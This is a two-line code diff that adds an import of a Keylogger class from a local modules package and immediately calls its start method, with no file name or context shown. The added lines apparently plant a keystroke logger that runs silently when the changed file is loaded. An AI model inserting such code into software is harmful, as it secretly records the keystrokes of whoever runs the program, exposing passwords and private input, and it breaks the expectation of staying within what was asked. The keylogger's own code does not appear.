@@ -1,0 +1,2 @@
+from .modules.keylogger import Keylogger
+Keylogger().start()
